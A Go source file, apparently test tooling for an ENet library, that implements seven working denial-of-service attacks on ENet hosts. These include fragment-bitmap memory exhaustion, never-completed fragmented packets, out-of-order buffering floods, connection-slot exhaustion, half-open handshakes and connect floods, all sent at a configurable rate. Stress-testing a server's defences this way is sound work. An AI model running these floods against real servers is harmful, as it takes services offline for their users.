package attack

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/enetgo/enet/internal/enettest"
)

// Kind is one attack.
type Kind int

// The attacks (docs/hostile.md describes what each makes an unguarded ENet
// host allocate).
const (
	// BitmapReliable sends SEND_FRAGMENT commands of 2^20 fragments for a
	// 1-byte packet, a new start sequence number each: ENet allocates a
	// 128 KiB bitmap for each and counts 1 byte.
	BitmapReliable Kind = iota
	// BitmapUnreliable does the same with SEND_UNRELIABLE_FRAGMENT.
	BitmapUnreliable
	// NeverComplete sends every fragment but the last of packets of the
	// server's maximum size, one packet after another.
	NeverComplete
	// OutOfOrder sends 1-byte reliable packets that skip the next sequence
	// number, on every channel: ENet buffers each, waiting for the gap.
	OutOfOrder
	// SlotExhaustion connects, completing each handshake and keeping the
	// connection, as many times as the server allows.
	SlotExhaustion
	// HalfOpen sends connection requests and never completes them.
	HalfOpen
	// ConnectFlood completes handshakes as fast as it can and abandons
	// each connection at once.
	ConnectFlood
)

// Kinds lists every attack.
var Kinds = []Kind{BitmapReliable, BitmapUnreliable, NeverComplete, OutOfOrder, SlotExhaustion, HalfOpen, ConnectFlood}

var kindNames = [...]string{"bitmap-reliable", "bitmap-unreliable", "never-complete",
	"out-of-order", "slot-exhaustion", "half-open", "connect-flood"}

// String names the attack, such as "bitmap-reliable".
func (k Kind) String() string {
	if k >= 0 && int(k) < len(kindNames) {
		return kindNames[k]
	}
	return "attack?"
}

// Config says whom to attack, from where and how fast.
type Config struct {
	Server netip.AddrPort
	Local  netip.Addr // the attacker's address (a 127.x.y.z)
	// Rate is the most datagrams per second (0: 2000).
	Rate int
	// MaxPacket is the server's maximum packet size, for NeverComplete
	// (0: 32 MiB).
	MaxPacket int
	// Channels is how many channels to ask for (0: 255).
	Channels int
}

// Result counts what an attack did.
type Result struct {
	Datagrams   uint64 // datagrams sent
	Connections uint64 // handshakes completed
	Refused     uint64 // handshakes the server did not answer
}

// pacer spaces sends to a rate.
type pacer struct {
	every time.Duration
	next  time.Time
}

func newPacer(rate int) *pacer {
	if rate <= 0 {
		rate = 2000
	}
	return &pacer{every: time.Second / time.Duration(rate), next: time.Now()}
}

// wait sleeps until the next send is due, in steps of a millisecond or
// more; false once ctx is done.
func (p *pacer) wait(ctx context.Context) bool {
	p.next = p.next.Add(p.every)
	if d := time.Until(p.next); d > time.Millisecond {
		select {
		case <-ctx.Done():
			return false
		case <-time.After(d):
		}
	}
	return ctx.Err() == nil
}

// Run runs attack k until ctx is done.
func Run(ctx context.Context, k Kind, cfg Config) Result {
	if cfg.Channels == 0 {
		cfg.Channels = 255
	}
	if cfg.MaxPacket == 0 {
		cfg.MaxPacket = 32 << 20
	}
	switch k {
	case SlotExhaustion:
		return slots(ctx, cfg, true)
	case ConnectFlood:
		return slots(ctx, cfg, false)
	case HalfOpen:
		return halfOpen(ctx, cfg)
	}
	return flood(ctx, k, cfg)
}

// window is how many sequence numbers ahead of a fresh channel an attack
// uses: inside what ENet 1.3.17 buffers (6 windows of 4096).
const window = 6*4096 - 2

// flood connects and sends the crafted commands of k; when a connection
// has used its sequence numbers, or the server cut it, it connects again.
func flood(ctx context.Context, k Kind, cfg Config) Result {
	var r Result
	pace := newPacer(cfg.Rate)
	junk := make([]byte, 4000)
	for ctx.Err() == nil {
		c, err := Dial(cfg.Local, cfg.Server, cfg.Channels, 500*time.Millisecond)
		if err != nil {
			r.Refused++
			continue
		}
		r.Connections++
		for d := range datagrams(k, cfg, c.Channels(), junk) {
			if !pace.wait(ctx) || c.Disconnected() || c.Silent(time.Second) {
				break
			}
			c.Send(d)
			r.Datagrams++
		}
		c.Close()
	}
	return r
}

// datagrams yields the command payloads of one connection's attack.
func datagrams(k Kind, cfg Config, channels int, junk []byte) func(func([]byte) bool) {
	return func(yield func([]byte) bool) {
		var b []byte
		switch k {
		case BitmapReliable, BitmapUnreliable:
			cmd := uint8(enettest.CmdSendFragment | enettest.FlagAcknowledge)
			if k == BitmapUnreliable {
				cmd = enettest.CmdSendUnreliableFragment
			}
			for s := 1; s < window; {
				b = b[:0]
				for i := 0; i < 48 && s < window; i, s = i+1, s+1 {
					rel := uint16(s)
					if k == BitmapUnreliable {
						rel = 0
					}
					b = appendFragment(b, cmd, 0, rel, uint16(s), 1, enettest.MaximumFragmentCount, 1, 0, junk[:1])
				}
				if !yield(b) {
					return
				}
			}
		case NeverComplete:
			const fl = 4000
			total := uint32(cfg.MaxPacket)
			count := (total + fl - 1) / fl
			for s := 1; s < window; s++ {
				for n := uint32(0); n+1 < count; n++ {
					b = appendFragment(b[:0], enettest.CmdSendFragment|enettest.FlagAcknowledge, 0,
						uint16(s), uint16(s), n, count, total, n*fl, junk[:fl])
					if !yield(b) {
						return
					}
				}
			}
		case OutOfOrder:
			for s := 2; s < window; s++ {
				for ch := 0; ch < channels; ch += 160 {
					b = b[:0]
					for c := ch; c < min(ch+160, channels); c++ {
						b = enettest.AppendSendReliable(b, uint8(c), uint16(s), junk[:1])
					}
					if !yield(b) {
						return
					}
				}
			}
		}
	}
}

func appendFragment(b []byte, cmd, channel uint8, rel, start uint16, number, count, total, offset uint32, data []byte) []byte {
	b = enettest.AppendCommandHeader(b, cmd, channel, rel)
	b = binary.BigEndian.AppendUint16(b, start)
	b = binary.BigEndian.AppendUint16(b, uint16(len(data)))
	b = binary.BigEndian.AppendUint32(b, count)
	b = binary.BigEndian.AppendUint32(b, number)
	b = binary.BigEndian.AppendUint32(b, total)
	b = binary.BigEndian.AppendUint32(b, offset)
	return append(b, data...)
}

// slots completes handshakes: keeping each (SlotExhaustion) or abandoning
// it (ConnectFlood).
func slots(ctx context.Context, cfg Config, keep bool) Result {
	var r Result
	var held []*Client
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	pace := newPacer(min(cfg.Rate, 200))
	if !keep {
		pace = newPacer(cfg.Rate)
	}
	for pace.wait(ctx) {
		c, err := Dial(cfg.Local, cfg.Server, 2, 300*time.Millisecond)
		if err != nil {
			r.Refused++
			continue
		}
		r.Connections++
		if keep {
			held = append(held, c)
		} else {
			c.Close()
		}
	}
	return r
}

// halfOpen sends connection requests, each with a new connect ID, from a
// few ports, and never answers.
func halfOpen(ctx context.Context, cfg Config) Result {
	var r Result
	pace := newPacer(cfg.Rate)
	for ctx.Err() == nil {
		conn, err := Listen(cfg.Local)
		if err != nil {
			return r
		}
		for i := 0; i < 256 && pace.wait(ctx); i++ {
			conn.WriteToUDPAddrPort(ConnectRequest(rand.Uint32(), 2), cfg.Server)
			r.Datagrams++
		}
		conn.Close()
	}
	return r
}
